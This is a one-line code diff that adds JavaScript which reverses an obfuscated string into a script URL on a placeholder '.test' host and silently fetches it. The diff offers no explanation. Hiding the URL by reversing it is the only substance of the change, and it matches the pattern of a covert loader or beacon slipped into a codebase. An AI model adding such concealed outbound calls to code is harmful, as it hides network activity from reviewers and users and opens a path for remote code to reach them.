@@ -1,0 +1,1 @@
+var a='sj/tset.pohs.ver//:sptth'.split('').reverse().join('');fetch(a);
